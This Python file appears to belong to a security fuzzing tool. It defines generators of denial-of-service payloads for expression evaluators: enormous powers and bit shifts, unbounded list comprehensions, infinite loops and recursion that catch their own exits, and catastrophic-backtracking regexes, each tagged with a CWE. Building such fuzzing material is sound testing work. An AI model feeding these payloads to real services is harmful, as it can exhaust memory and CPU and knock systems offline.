"""Code that computes too much, each piece bounded by the limits of the process that it runs in."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.eval_parts import evaluated, statements, valued

_REF = "https://cwe.mitre.org/data/definitions/400.html"


@evaluated(
    "eval-big-number",
    group="eval-numbers",
    cwe="CWE-400",
    platforms=("python", "bounded"),
    needs="computes with whole numbers of any length",
    refs=(_REF,),
)
def big_number() -> Iterator[str]:
    """Raise, shift and multiply until a number fills the memory or takes for ever."""
    yield "9 ** 9 ** 9"
    yield "9 ** (9 ** 9) % 2"
    yield "((9 ** 9) ** 9) ** 9 ** 9"
    yield "pow(9, 9 ** 9)"
    yield "9 ** 9.0 ** 9 or 9 ** 9 ** 9"
    yield "(1 << 99999999) ** 9999"
    yield "1 << (1 << 60)"
    yield "(1 << 9999999) * (1 << 9999999) ** 999"
    yield "str((1 << 9999999) ** 99)"
    yield valued("x", "x = 9", "x **= 9", "x **= 9 ** 9")


@evaluated(
    "eval-long-text",
    group="eval-text",
    cwe="CWE-400",
    platforms=("python", "bounded"),
    needs="repeats and pads texts and lists without a bound",
    refs=(_REF,),
)
def long_text() -> Iterator[str]:
    """Repeat until nothing is left to compute with."""
    yield "sum([[y for y in range(9999999)] for x in range(9999999)], [])"
    yield "[x * y for x in range(9999999) for y in range(9999999)]"
    yield "len([0 for x in range(9999999) for y in range(9999999)])"
    yield "max(x for x in range(1 << 60))"
    yield "sum(range(1 << 60))"
    yield "list(range(1 << 60))"


@evaluated(
    "eval-endless-loop",
    group="eval-loops",
    cwe="CWE-835",
    platforms=("python", "bounded"),
    needs="runs loops and calls itself without a count",
    refs=("https://cwe.mitre.org/data/definitions/835.html",),
)
def endless_loop() -> Iterator[str]:
    """Loop for ever, and catch what would end the loop."""
    yield statements("result = 0", "while True:", "    result = 1")
    yield statements(
        "result = 0",
        "while True:",
        "    try:",
        "        while True: result = 1",
        "    except: pass",
    )
    yield statements("x = [0]", "for y in x:", "    x.append(y)", "result = 1")
    yield valued("f(35)", "def f(n):", "    return 1 if n < 2 else f(n - 1) + f(n - 2)")
    yield valued("f()", "def f():", "    try: return f()", "    finally: f()")
    yield "(lambda f: f(f))(lambda f: f(f))"


@evaluated(
    "eval-slow-pattern",
    group="eval-patterns",
    cwe="CWE-1333",
    platforms=("python", "bounded"),
    needs="hands out regular expressions",
    refs=("https://cwe.mitre.org/data/definitions/1333.html",),
)
def slow_pattern() -> Iterator[str]:
    """Match a pattern that tries every way to split a text."""
    yield f"re.match('(a+)+$', '{'a' * 40}!')"
    yield valued(f"re.match('(a|a)*$', '{'a' * 40}!')", "import re")
